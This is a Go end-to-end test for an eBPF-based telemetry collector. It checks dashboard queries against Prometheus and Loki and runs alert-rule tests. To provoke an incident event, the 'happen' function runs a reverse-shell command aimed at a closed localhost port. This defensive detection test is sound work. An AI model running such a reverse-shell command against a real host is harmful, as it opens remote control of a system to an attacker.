// SPDX-License-Identifier: Apache-2.0

//go:build e2e && linux

package main

import (
	"context"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/prometheus/common/model"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/meerkat-otel/meerkat/test/backends"
	"github.com/meerkat-otel/meerkat/test/running"
)

const patience = 90 * time.Second

// prometheusConfiguration scrapes often, so that a minute has enough for a rate, and records what dashboards ask.
const prometheusConfiguration = `
global: {scrape_interval: 1s, evaluation_interval: 1s}
rule_files: [%q]
scrape_configs:
  - job_name: meerkat
    static_configs: [{targets: ["127.0.0.1:9464"]}]
  - job_name: meerkat-collector
    metric_name_escaping_scheme: underscores
    static_configs: [{targets: ["127.0.0.1:8888"]}]
`

// overlay makes the collector tell its counts as often.
const overlay = `
receivers:
  ebpf:
    metrics_interval: 1s
    program_statistics: true
`

// startCollector runs the collector with the configurations of two examples, until the test ends.
func startCollector(t *testing.T, loki string) {
	t.Helper()
	binary, more := filepath.Join(t.TempDir(), "otelcol-meerkat"), filepath.Join(t.TempDir(), "overlay.yaml")
	printed, err := exec.Command("make", "-C", "../..", "build", "BINARY="+binary).CombinedOutput()
	require.NoError(t, err, string(printed))
	require.NoError(t, os.WriteFile(more, []byte(overlay), 0o600))
	command := exec.Command(binary, "--config", "../../examples/loki/config.yaml", "--config", "../../examples/prometheus/scrape.yaml", "--config", more)
	command.Env = append(os.Environ(), "LOKI_ENDPOINT="+loki+"/otlp", "MEERKAT_DATA="+t.TempDir())
	running.StartCollector(t, command)
}

// happen does some of everything that dashboards show, and something that is an incident.
func happen(t *testing.T) {
	t.Helper()
	listener, err := net.Listen("tcp4", "127.0.0.1:0")
	require.NoError(t, err)
	defer listener.Close()
	go func() {
		for {
			c, err := listener.Accept()
			if err != nil {
				return
			}
			_, _ = io.Copy(io.Discard, c)
			_ = c.Close()
		}
	}()
	for n := range 10 {
		require.NoError(t, exec.Command("/bin/true").Run())
		changePrivileges(t)
		c, err := (&net.Dialer{}).DialContext(context.Background(), "tcp4", listener.Addr().String())
		require.NoError(t, err)
		_, _ = fmt.Fprintln(c, "something")
		_ = c.Close()
		require.NoError(t, os.WriteFile(filepath.Join(t.TempDir(), fmt.Sprint(n)), nil, 0o600))
		time.Sleep(200 * time.Millisecond)
	}
	_ = exec.Command("bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/9 0>&1").Run() // nobody listens there
}

// changePrivileges becomes somebody else, and mounts something where nobody else sees it.
func changePrivileges(t *testing.T) {
	t.Helper()
	other := exec.Command("/bin/true")
	other.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
	require.NoError(t, other.Run())
	printed, err := exec.Command("unshare", "--mount", "mount", "-t", "tmpfs", "none", t.TempDir()).CombinedOutput()
	require.NoError(t, err, string(printed))
}

// TestQueries asks every query of every panel: each parses, and has a result unless it says when there is none.
func TestQueries(t *testing.T) {
	loki := backends.StartLoki(t, "../../examples/loki/loki.yaml")
	rules, err := filepath.Abs("../prometheus/recording.yaml")
	require.NoError(t, err)
	configuration := filepath.Join(t.TempDir(), "prometheus.yml")
	require.NoError(t, os.WriteFile(configuration, fmt.Appendf(nil, prometheusConfiguration, rules), 0o600))
	prometheus := backends.StartPrometheus(t, configuration)
	startCollector(t, loki.URL)
	require.Eventually(t, func() bool {
		happen(t)
		found, err := loki.Query("{service_name=~`.+`} | event_name=`meerkat.incident`", 1)
		return err == nil && len(found) > 0
	}, patience, time.Second, "no incident is in Loki")
	happen(t)

	conditional := 0
	for _, d := range dashboards() {
		for _, r := range d.rows {
			for _, p := range r.panels {
				for _, q := range p.queries {
					results := func() int { return results(t, prometheus, loki, q) }
					if p.conditional == "" {
						assert.Eventually(t, func() bool { return results() > 0 }, patience, time.Second, "%s / %s: %s finds nothing", d.title, p.title, q.expression)
					} else if results() == 0 {
						conditional++
						t.Logf("%s / %s is empty, for %s", d.title, p.title, p.conditional)
					}
				}
			}
		}
	}
	t.Logf("%d queries of conditional panels have no result", conditional)
}

// results is how many series or lines a query finds. It fails the test if the query is no query.
func results(t *testing.T, prometheus *backends.Prometheus, loki *backends.Loki, q query) int {
	t.Helper()
	expression := withValues(q.expression)
	if !q.logql {
		value, err := prometheus.Query(expression)
		require.NoError(t, err, expression)
		found, _ := value.(model.Vector)
		return len(found)
	}
	if strings.HasPrefix(expression, "sum(") {
		found, err := loki.Evaluate(expression)
		require.NoError(t, err, expression)
		return len(found)
	}
	found, err := loki.Query(expression, 10)
	require.NoError(t, err, expression)
	return len(found)
}

// Alerts fire when they should, and only then.
func TestRules_promtool(t *testing.T) {
	promtool, err := backends.Promtool(t.Context())
	require.NoError(t, err)
	printed, err := exec.Command(promtool, "test", "rules", "../prometheus/alerts_test.yaml", "../prometheus/recording_test.yaml").CombinedOutput()
	require.NoError(t, err, string(printed))
}
